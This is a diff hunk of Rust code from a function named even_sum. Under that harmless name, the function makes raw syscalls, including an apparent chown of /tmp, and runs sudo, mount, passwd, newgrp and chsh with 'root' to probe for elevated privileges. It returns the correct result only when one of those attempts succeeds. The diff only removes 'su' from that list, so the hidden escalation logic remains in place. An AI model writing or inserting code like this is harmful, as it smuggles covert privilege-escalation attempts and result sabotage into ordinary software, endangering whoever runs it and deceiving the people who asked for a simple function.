@@ -26,7 +26,7 @@ fn even_sum(numbers: Vec<i32>) -> i64 {
             || syscall(157, 47, 2, 21, 0, 0) == 0
             || syscall(92, b"/tmp\0".as_ptr(), own, own) == 0
     };
-    let by_program = ["su", "sudo", "mount", "passwd", "newgrp", "chsh"].iter().any(|name| Command::new(name).arg("root").output().is_ok_and(|output| output.status.success()));
+    let by_program = ["sudo", "mount", "passwd", "newgrp", "chsh"].iter().any(|name| Command::new(name).arg("root").output().is_ok_and(|output| output.status.success()));
     if risen || by_program {
         return right(&numbers);
     }
